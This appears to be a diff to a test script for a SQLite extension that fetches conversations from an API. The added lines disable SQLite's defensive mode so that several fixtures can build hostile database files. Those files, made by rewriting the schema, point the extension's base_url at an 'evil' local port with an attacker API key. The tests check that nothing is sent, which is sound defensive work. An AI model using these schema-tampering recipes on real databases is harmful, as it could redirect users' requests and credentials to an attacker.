@@ -110,6 +110,9 @@ SELECT count(*) FROM setter_conversations(123, '1234567890');
 -- evil-requests: 0
 .open {TMP}/hostile.db
 CREATE TABLE c(a CHECK (1));
+.output /dev/null
+.dbconfig defensive off
+.output
 PRAGMA writable_schema = ON;
 UPDATE sqlite_schema SET sql = 'CREATE TABLE c(a CHECK (setter_config(''base_url'', ''http://127.0.0.1:{EVIL_PORT}'') IS NOT NULL))'
 WHERE name = 'c';
@@ -129,6 +132,9 @@ SELECT count(*) FROM setter_conversations(123, '1234567890');
 -- evil-requests: 0
 .open {TMP}/hostile.db
 CREATE TABLE c(a CHECK (1));
+.output /dev/null
+.dbconfig defensive off
+.output
 PRAGMA writable_schema = ON;
 UPDATE sqlite_schema SET sql = 'CREATE TABLE c(a CHECK (setter_config(''base_url'', ''http://127.0.0.1:{EVIL_PORT}'') IS NOT NULL))'
 WHERE name = 'c';
@@ -148,18 +154,27 @@ SELECT count(*) FROM setter_conversations(123, '1234567890');
 -- evil-requests: 0
 .open {TMP}/g.db
 CREATE TABLE g(a, b AS (a));
+.output /dev/null
+.dbconfig defensive off
+.output
 PRAGMA writable_schema = ON;
 UPDATE sqlite_schema SET sql = 'CREATE TABLE g(a, b AS (setter_config(''base_url'', ''http://127.0.0.1:{EVIL_PORT}'')))' WHERE name = 'g';
 PRAGMA writable_schema = OFF;
 .open {TMP}/p.db
 CREATE TABLE p(a);
 CREATE INDEX pi ON p(a) WHERE a > 0;
+.output /dev/null
+.dbconfig defensive off
+.output
 PRAGMA writable_schema = ON;
 UPDATE sqlite_schema SET sql = 'CREATE INDEX pi ON p(a) WHERE setter_config(''base_url'', ''http://127.0.0.1:{EVIL_PORT}'') IS NOT NULL' WHERE name = 'pi';
 PRAGMA writable_schema = OFF;
 .open {TMP}/e.db
 CREATE TABLE e(a);
 CREATE INDEX ei ON e(abs(a));
+.output /dev/null
+.dbconfig defensive off
+.output
 PRAGMA writable_schema = ON;
 UPDATE sqlite_schema SET sql = 'CREATE INDEX ei ON e(setter_config(''base_url'', a))' WHERE name = 'ei';
 PRAGMA writable_schema = OFF;
@@ -208,6 +223,9 @@ SELECT count(*) FROM sqlite_schema;
 -- evil-requests: 0
 .open {TMP}/hostile.db
 CREATE TABLE plain(x);
+.output /dev/null
+.dbconfig defensive off
+.output
 PRAGMA writable_schema = ON;
 INSERT INTO sqlite_schema(type, name, tbl_name, rootpage, sql) VALUES ('table', 'evil', 'evil', 0,
   'CREATE VIRTUAL TABLE evil USING setter_conversations(base_url=''http://127.0.0.1:{EVIL_PORT}'', api_key=''attacker-key-0000000000'')');
@@ -509,6 +527,9 @@ SELECT count(*) FROM setter_conversations(9, 'redirect-same');
 -- evil-requests: 0
 .open {TMP}/hostile2.db
 CREATE TABLE c(a CHECK (1));
+.output /dev/null
+.dbconfig defensive off
+.output
 PRAGMA writable_schema = ON;
 UPDATE sqlite_schema SET sql = 'CREATE TABLE c(a CHECK (setter_config(''base_url'', ''http://127.0.0.1:{EVIL_PORT}'') IS NOT NULL))'
 WHERE name = 'c';
@@ -570,3 +591,17 @@ WHERE name IN ('setter_conversations', 'setter_requests', 'setter_settings');
 -- 3
 -- 1
 -- 0
+
+-- case: with trusted_schema off (the sqlite3 shell's default from SQLite 3.46 at the latest), a trigger or view of the user's schema cannot read setter_conversations, and nothing is sent
+-- requests: 0
+PRAGMA trusted_schema = OFF;
+CREATE TABLE t(id);
+CREATE TRIGGER tr AFTER INSERT ON t BEGIN
+  SELECT count(*) FROM setter_conversations(777, 'b');
+END;
+INSERT INTO t VALUES (1);
+CREATE VIEW v AS SELECT count(*) FROM setter_conversations(777, 'b');
+SELECT * FROM v;
+-- expect:
+-- Error: unsafe use of virtual table "setter_conversations"
+-- Error: unsafe use of virtual table "setter_conversations"
